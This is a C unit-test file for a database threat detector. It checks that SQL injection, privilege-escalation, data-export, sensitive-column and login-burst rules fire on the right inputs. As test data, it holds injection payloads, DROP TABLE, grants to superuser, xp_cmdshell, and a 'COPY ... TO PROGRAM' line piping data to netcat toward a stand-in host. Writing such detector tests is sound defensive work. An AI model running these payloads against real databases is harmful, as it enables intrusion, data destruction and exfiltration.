/* Unit tests of detect: the precise rule each detector names, risk order,
 * sensitive_objects patterns, large results, the login-anomaly counter
 * interface, and safety on events without a statement. The measured rates
 * over the corpus are in test_detection. */
#include "unit.h"

#include <stdio.h>
#include <stdlib.h>

#include "detect.h"

struct probe {
	struct sql_analysis a;
	struct detect_input in;
	struct detect_hit hit;
};

static void probe_init(struct probe *p, const char *sql, enum sql_dialect d)
{
	memset(p, 0, sizeof(*p));
	assert_int_equal(sqlanalysis_run(sql, d, 0, &p->a), API_OK);
	p->in.type = "database.query";
	p->in.sql = &p->a;
}

/* The rule detector kind names for sql, or NULL when it does not fire. */
static const char *rule_of(const char *sql, enum sql_dialect d, enum detect_kind kind,
			   const json_t *sensitive)
{
	static char rule[64];
	struct probe p;
	bool hit = false;

	probe_init(&p, sql, d);
	p.in.sensitive_objects = sensitive;
	switch (kind) {
	case DETECT_SQL_INJECTION: hit = detect_sql_injection(&p.in, &p.hit); break;
	case DETECT_PRIVILEGE_ESCALATION: hit = detect_privilege_escalation(&p.in, &p.hit); break;
	case DETECT_DATA_EXPORT: hit = detect_data_export(&p.in, &p.hit); break;
	case DETECT_SENSITIVE_ACCESS: hit = detect_sensitive_access(&p.in, &p.hit); break;
	default: break;
	}
	snprintf(rule, sizeof(rule), "%s", hit ? p.hit.rule_id : "");
	sqlanalysis_cleanup(&p.a);
	return hit ? rule : NULL;
}

#define SQLI(sql, d) rule_of(sql, d, DETECT_SQL_INJECTION, NULL)

static void test_sqli_rules(void **state)
{
	(void)state;
	assert_string_equal(SQLI("SELECT * FROM u WHERE name = '' OR '1'='1'", SQL_DIALECT_POSTGRESQL),
			    "rule_sqli_tautology");
	assert_string_equal(SQLI("SELECT * FROM u WHERE id = 1 OR 1", SQL_DIALECT_MYSQL), "rule_sqli_tautology");
	assert_string_equal(SQLI("SELECT * FROM u WHERE id = 1 OR id = id", SQL_DIALECT_ORACLE),
			    "rule_sqli_tautology");
	assert_string_equal(SQLI("SELECT a FROM t WHERE id = -1 UNION SELECT NULL, NULL", SQL_DIALECT_POSTGRESQL),
			    "rule_sqli_union");
	assert_string_equal(SQLI("SELECT a FROM t WHERE id = 1; DROP TABLE t", SQL_DIALECT_SQLSERVER),
			    "rule_sqli_stacked");
	assert_string_equal(SQLI("SELECT a FROM t WHERE id = 1/**/AND/**/2 > 1", SQL_DIALECT_MYSQL),
			    "rule_sqli_comment");
	assert_string_equal(SQLI("SELECT a FROM t WHERE n = 'admin'-- ' AND p = 'x'", SQL_DIALECT_MYSQL),
			    "rule_sqli_comment");
	assert_string_equal(SQLI("SELECT a FROM t WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))",
				 SQL_DIALECT_POSTGRESQL), "rule_sqli_time");
	assert_string_equal(SQLI("SELECT a FROM t; WAITFOR DELAY '0:0:5'", SQL_DIALECT_SQLSERVER), "rule_sqli_time");
	assert_string_equal(SQLI("SELECT a FROM t WHERE 1=CONVERT(int, @@version)", SQL_DIALECT_SQLSERVER),
			    "rule_sqli_error");
	assert_string_equal(SQLI("SELECT a FROM t WHERE id = 1 AND (SELECT count(*) FROM all_tables) > 0",
				 SQL_DIALECT_ORACLE), "rule_sqli_catalog");
	/* the highest-risk rule wins when several fire */
	assert_string_equal(SQLI("SELECT a FROM t WHERE x = '' OR 1=1; SELECT pg_sleep(9)--",
				 SQL_DIALECT_POSTGRESQL), "rule_sqli_time");
}

static void test_sqli_benign(void **state)
{
	(void)state;
	assert_null(SQLI("SELECT * FROM users WHERE 1=0", SQL_DIALECT_POSTGRESQL));
	assert_null(SQLI("SELECT * FROM users WHERE 1=1 AND id = 5", SQL_DIALECT_MYSQL));
	assert_null(SQLI("SELECT id FROM t WHERE a = 1 OR b = 2", SQL_DIALECT_POSTGRESQL));
	assert_null(SQLI("SELECT 'admin' AS r, id FROM a UNION ALL SELECT 'user', id FROM b", SQL_DIALECT_POSTGRESQL));
	assert_null(SQLI("SELECT column_name FROM information_schema.columns WHERE table_name = 'x'",
			 SQL_DIALECT_MYSQL));
	assert_null(SQLI("CREATE FUNCTION f() RETURNS void AS 'select pg_sleep(1)' LANGUAGE sql",
			 SQL_DIALECT_POSTGRESQL));
	assert_null(SQLI("INSERT INTO c (body) VALUES ('x OR 1=1 -- UNION SELECT NULL')", SQL_DIALECT_MYSQL));
	assert_null(SQLI("/*!40101 SET NAMES utf8mb4 */", SQL_DIALECT_MYSQL));
	assert_null(SQLI("-- just a comment", SQL_DIALECT_MYSQL));
	assert_null(SQLI("", SQL_DIALECT_UNKNOWN));
}

#define PRIV(sql, d) rule_of(sql, d, DETECT_PRIVILEGE_ESCALATION, NULL)
#define EXPORT(sql, d) rule_of(sql, d, DETECT_DATA_EXPORT, NULL)

static void test_privesc_and_export(void **state)
{
	(void)state;
	assert_string_equal(PRIV("GRANT SELECT ON t TO bob", SQL_DIALECT_POSTGRESQL), "rule_privesc_grant");
	assert_string_equal(PRIV("GRANT admins TO bob", SQL_DIALECT_POSTGRESQL), "rule_privesc_role_membership");
	assert_string_equal(PRIV("ALTER ROLE bob SUPERUSER", SQL_DIALECT_POSTGRESQL), "rule_privesc_superuser");
	assert_string_equal(PRIV("CREATE USER x WITH SUPERUSER", SQL_DIALECT_POSTGRESQL), "rule_privesc_admin_user");
	assert_string_equal(PRIV("GRANT ALL ON *.* TO 'a'@'%'", SQL_DIALECT_MYSQL), "rule_privesc_admin_grant");
	assert_string_equal(PRIV("EXEC sp_addsrvrolemember 'a', 'sysadmin'", SQL_DIALECT_SQLSERVER),
			    "rule_privesc_role_membership");
	assert_string_equal(PRIV("GRANT DBA TO scott", SQL_DIALECT_ORACLE), "rule_privesc_admin_grant");
	assert_null(PRIV("REVOKE SELECT ON t FROM bob", SQL_DIALECT_POSTGRESQL));
	assert_null(PRIV("ALTER USER bob PASSWORD 'x'", SQL_DIALECT_POSTGRESQL));
	assert_null(PRIV("SELECT grant_date FROM grants", SQL_DIALECT_POSTGRESQL));

	assert_string_equal(EXPORT("COPY t TO '/tmp/x'", SQL_DIALECT_POSTGRESQL), "rule_export_copy_file");
	assert_string_equal(EXPORT("COPY t TO PROGRAM 'nc evil 1'", SQL_DIALECT_POSTGRESQL), "rule_export_copy_program");
	assert_string_equal(EXPORT("COPY t TO STDOUT", SQL_DIALECT_POSTGRESQL), "rule_export_copy_stdout");
	assert_string_equal(EXPORT("SELECT * FROM t INTO OUTFILE '/x'", SQL_DIALECT_MYSQL), "rule_export_outfile");
	assert_string_equal(EXPORT("EXEC xp_cmdshell 'bcp db.dbo.t out c:\\t.dat -T'", SQL_DIALECT_SQLSERVER),
			    "rule_export_bcp");
	assert_string_equal(EXPORT("EXPORT TO /x OF DEL SELECT * FROM t", SQL_DIALECT_ORACLE), "rule_export_statement");
	assert_null(EXPORT("COPY t FROM '/tmp/x'", SQL_DIALECT_POSTGRESQL));
	assert_null(EXPORT("SELECT * FROM t", SQL_DIALECT_MYSQL));
}

static void test_large_rows(void **state)
{
	struct probe p;
	json_t *d = json_pack("{s:I}", "rows", (json_int_t)250000);

	(void)state;
	probe_init(&p, "SELECT * FROM t", SQL_DIALECT_POSTGRESQL);
	p.in.details = d;
	assert_true(detect_data_export(&p.in, &p.hit));
	assert_string_equal(p.hit.rule_id, "rule_export_large_result");
	assert_string_equal(p.hit.matched, "rows=250000");
	p.in.large_rows = 300000;
	assert_false(detect_data_export(&p.in, &p.hit));
	sqlanalysis_cleanup(&p.a);
	/* no statement at all: rows alone still count */
	memset(&p, 0, sizeof(p));
	p.in.type = "database.query";
	p.in.details = d;
	assert_true(detect_data_export(&p.in, &p.hit));
	assert_false(detect_sql_injection(&p.in, &p.hit));
	assert_false(detect_sensitive_access(&p.in, &p.hit));
	json_decref(d);
}

static void test_patterns(void **state)
{
	(void)state;
	assert_true(detect_pattern_match("users", "public", "users", NULL));
	assert_true(detect_pattern_match("USERS", NULL, "users", NULL));
	assert_false(detect_pattern_match("users", NULL, "users_archive", NULL));
	assert_true(detect_pattern_match("users*", NULL, "users_archive", NULL));
	assert_true(detect_pattern_match("public.users", "public", "users", NULL));
	assert_false(detect_pattern_match("hr.users", "public", "users", NULL));
	assert_true(detect_pattern_match("hr.users", NULL, "users", NULL));
	assert_true(detect_pattern_match("*.card*", "billing", "cards", NULL));
	assert_true(detect_pattern_match("hr.people.ssn", "hr", "people", "ssn"));
	assert_false(detect_pattern_match("hr.people.ssn", "hr", "people", "name"));
	assert_true(detect_pattern_match("hr.people.*", "hr", "people", "name"));
	assert_false(detect_pattern_match("a.b.c.d", "a", "b", "c"));
	assert_false(detect_pattern_match("", NULL, "t", NULL));
}

static void test_sensitive_access(void **state)
{
	json_t *s = json_pack("[s, s]", "hr.people.ssn", "billing.card*");

	(void)state;
	assert_string_equal(rule_of("SELECT name, ssn FROM hr.people", SQL_DIALECT_POSTGRESQL,
				    DETECT_SENSITIVE_ACCESS, s), "rule_sensitive_column");
	assert_string_equal(rule_of("SELECT * FROM people", SQL_DIALECT_POSTGRESQL, DETECT_SENSITIVE_ACCESS, s),
			    "rule_sensitive_column");
	assert_null(rule_of("SELECT name FROM hr.people", SQL_DIALECT_POSTGRESQL, DETECT_SENSITIVE_ACCESS, s));
	assert_string_equal(rule_of("UPDATE `billing`.`cards` SET x = 1", SQL_DIALECT_MYSQL,
				    DETECT_SENSITIVE_ACCESS, s), "rule_sensitive_object");
	assert_null(rule_of("SELECT * FROM billing.invoices", SQL_DIALECT_MYSQL, DETECT_SENSITIVE_ACCESS, s));
	assert_null(rule_of("SELECT * FROM hr.people", SQL_DIALECT_MYSQL, DETECT_SENSITIVE_ACCESS, NULL));
	json_decref(s);
}

static void test_run(void **state)
{
	struct probe p;
	struct detect_hit hits[DETECT__COUNT];
	json_t *s = json_pack("[s]", "users");

	(void)state;
	probe_init(&p, "SELECT * FROM users WHERE id = 1 OR 1=1 INTO OUTFILE '/tmp/u'", SQL_DIALECT_MYSQL);
	p.in.sensitive_objects = s;
	assert_int_equal(detect_run(&p.in, hits, DETECT__COUNT), 3);
	assert_int_equal(hits[0].kind, DETECT_SQL_INJECTION);
	assert_int_equal(hits[1].kind, DETECT_DATA_EXPORT);
	assert_int_equal(hits[2].kind, DETECT_SENSITIVE_ACCESS);
	assert_string_equal(detect_policies[hits[0].kind].policy_id, "pol_builtin_sql_injection");
	assert_string_equal(detect_policies[hits[0].kind].event_type, "security.threat_detected");
	assert_int_equal(detect_run(&p.in, hits, 1), 1);
	p.in.type = "user.login_success";
	assert_int_equal(detect_run(&p.in, hits, DETECT__COUNT), 0);
	sqlanalysis_cleanup(&p.a);
	json_decref(s);
}

/* An in-memory sliding-window counter: the backend the tests give the
 * login-anomaly detector (production shares one across workers and hosts). */
struct memcounter {
	char keys[8][128];
	int64_t times[8][64];
	size_t n[8];
	size_t nkeys;
	bool broken;
};

static int64_t memcounter_incr(void *ctx, const char *key, int64_t now_ms, int64_t window_ms)
{
	struct memcounter *m = ctx;
	size_t k, live = 0;

	if (m->broken)
		return -1;
	for (k = 0; k < m->nkeys && strcmp(m->keys[k], key) != 0; k++)
		;
	if (k == m->nkeys) {
		assert_true(m->nkeys < 8);
		snprintf(m->keys[m->nkeys++], sizeof(m->keys[0]), "%s", key);
	}
	assert_true(m->n[k] < 64);
	m->times[k][m->n[k]++] = now_ms;
	for (size_t i = 0; i < m->n[k]; i++)
		live += m->times[k][i] > now_ms - window_ms;
	return (int64_t)live;
}

static void test_login_anomaly(void **state)
{
	struct memcounter m;
	struct detect_counter c = { memcounter_incr, &m };
	struct detect_login_limits lim = { 60000, 5, 3 };
	json_t *d = json_pack("{s:s, s:s}", "source_ip", "10.0.0.9", "user", "alice");
	struct detect_input in = { "user.login_failed", d, NULL, NULL, 0 };
	struct detect_hit h;

	(void)state;
	memset(&m, 0, sizeof(m));
	assert_false(detect_login_anomaly(&in, "acme", &c, &lim, 1000, &h));
	assert_false(detect_login_anomaly(&in, "acme", &c, &lim, 2000, &h));
	assert_true(detect_login_anomaly(&in, "acme", &c, &lim, 3000, &h));
	assert_string_equal(h.rule_id, "rule_login_burst_user");
	assert_string_equal(h.matched, "alice");
	/* outside the window the old failures no longer count */
	assert_false(detect_login_anomaly(&in, "acme", &c, &lim, 200000, &h));
	/* another tenant's counters are its own */
	assert_false(detect_login_anomaly(&in, "other", &c, &lim, 3000, &h));
	/* successes are not counted, a broken backend never fires */
	in.type = "user.login_success";
	assert_false(detect_login_anomaly(&in, "acme", &c, &lim, 3000, &h));
	in.type = "user.login_failed";
	m.broken = true;
	assert_false(detect_login_anomaly(&in, "acme", &c, &lim, 3000, &h));
	json_decref(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqli_rules),
		cmocka_unit_test(test_sqli_benign),
		cmocka_unit_test(test_privesc_and_export),
		cmocka_unit_test(test_large_rows),
		cmocka_unit_test(test_patterns),
		cmocka_unit_test(test_sensitive_access),
		cmocka_unit_test(test_run),
		cmocka_unit_test(test_login_anomaly),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
